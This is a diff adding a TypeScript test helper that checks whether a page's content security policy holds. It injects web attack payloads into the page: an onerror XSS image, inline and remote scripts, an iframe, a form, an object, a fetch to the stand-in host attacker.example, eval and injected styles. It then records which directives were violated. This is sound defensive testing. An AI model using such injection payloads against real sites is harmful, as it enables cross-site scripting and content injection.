@@ -1,0 +1,56 @@
+/** What happened when a page tried to do what its content security policy forbids. */
+export interface AttackResult {
+  /** A script ran that isn't the page's own. */
+  readonly attacked: boolean;
+  readonly fetched: boolean;
+  readonly evaluated: boolean;
+  readonly position: string;
+  readonly display: string;
+  /** The directives that were violated, sorted. */
+  readonly violated: readonly string[];
+}
+
+/** A script for a page: tries to load, run, style, embed and send what isn't the page's own. */
+export const attack = `(async () => {
+  const violated = [];
+  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+    violated.push(effectiveDirective),
+  );
+  const add = (html) => {
+    document.body.insertAdjacentHTML('beforeend', '<div class="attack">' + html + '</div>');
+  };
+  add('<img src=x onerror="globalThis.attacked = 1">');
+  add('<img src="https://attacker.example/x.png">');
+  add('<p style="position: fixed" id="styled">x</p>');
+  add('<style>body { display: none }</style>');
+  add('<iframe src="https://attacker.example/"></iframe>');
+  add('<form action="https://attacker.example/"><button id="send"></button></form>');
+  add('<object data="https://attacker.example/"></object>');
+  const script = document.createElement('script');
+  script.textContent = 'globalThis.attacked = 2';
+  document.body.append(script);
+  const remote = document.createElement('script');
+  remote.src = 'https://attacker.example/x.js';
+  document.body.append(remote);
+  document.getElementById('send')?.click();
+  const fetched = await fetch('https://attacker.example/').then(
+    () => true,
+    () => false,
+  );
+  let evaluated = false;
+  try {
+    evaluated = globalThis.eval('true');
+  } catch {}
+  await new Promise((resolve) => setTimeout(resolve, 500));
+  const styled = document.getElementById('styled');
+  const result = {
+    attacked: 'attacked' in globalThis,
+    fetched,
+    evaluated,
+    position: styled && getComputedStyle(styled).position,
+    display: getComputedStyle(document.body).display,
+    violated: [...new Set(violated)].sort(),
+  };
+  for (const element of document.querySelectorAll('.attack, script:not([nonce])')) element.remove();
+  return result;
+})()`;
